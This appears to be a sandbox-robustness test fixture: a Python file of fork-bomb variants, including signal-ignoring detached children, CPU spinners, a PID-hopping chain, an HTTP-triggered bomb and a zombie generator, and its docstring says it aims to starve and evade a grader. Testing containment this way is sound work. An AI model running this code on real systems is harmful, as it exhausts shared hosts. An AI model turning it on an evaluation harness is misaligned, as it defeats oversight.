"""Makes processes until there are no more.

victim: api
tries: to leave no process for the grader, to outnumber the killing, to starve the verdict of CPU
must: failed, crashed, timed_out, out_of_memory
seconds: 4
shows: armed
backends: docker-runc, docker-runsc
ends: docker-runsc
"""

import os
import signal
import time

from fastapi import FastAPI

app = FastAPI()


def until_refused(child):
    while True:
        try:
            if os.fork() == 0:
                child()
                os._exit(0)
        except OSError:
            return


# variant: sleeping
print("armed", flush=True)
until_refused(lambda: time.sleep(60))

# variant: sleeping_apart
def apart():
    os.setsid()
    for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            signal.signal(number, signal.SIG_IGN)
    time.sleep(60)


print("armed", flush=True)
until_refused(apart)

# variant: spinning
def spin():
    while True:
        pass


print("armed", flush=True)
until_refused(spin)

# variant: each_forks_again
print("armed", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass

# variant: chain
# Each process makes its successor and ends: whoever looks finds another process id.
print("armed", flush=True)
if os.fork() == 0:
    os.setsid()
    until = time.monotonic() + 30
    while time.monotonic() < until:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
    os._exit(0)

# variant: in_a_handler
@app.post("/digest")
def digest():
    until_refused(lambda: time.sleep(60))
    return {}


print("armed", flush=True)

# variant: zombies
def zombies():
    while True:
        try:
            if os.fork() == 0:
                if os.fork() == 0:
                    os._exit(0)
                os._exit(0)
        except OSError:
            return


print("armed", flush=True)
zombies()
